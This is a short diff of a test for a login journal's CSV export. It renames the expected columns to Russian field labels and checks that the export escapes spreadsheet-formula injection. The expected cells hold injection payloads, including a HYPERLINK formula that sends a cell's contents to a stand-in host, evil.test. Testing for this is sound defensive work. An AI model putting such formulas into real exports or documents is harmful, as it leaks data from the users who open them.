@@ -77,6 +77,7 @@ describe('login journal', () => {
     expect(saved[0]!.name).toBe('journal.csv');
     const [header, line] = (await saved[0]!.text).replace(/^\uFEFF/, '').split('\r\n');
     const cells = Object.fromEntries(header!.split(';').map((name, index) => [name, line!.split(';')[index]]));
-    expect(cells).toMatchObject({ input: `"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")"`, host: "'@evil.test", ip: "'-1+1", success: 'false' });
+    // headed by the fields' labels, a flag in words (issue 27)
+    expect(cells).toMatchObject({ 'Введенный логин': `"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")"`, Хост: "'@evil.test", IP: "'-1+1", Результат: 'Нет' });
   });
 });
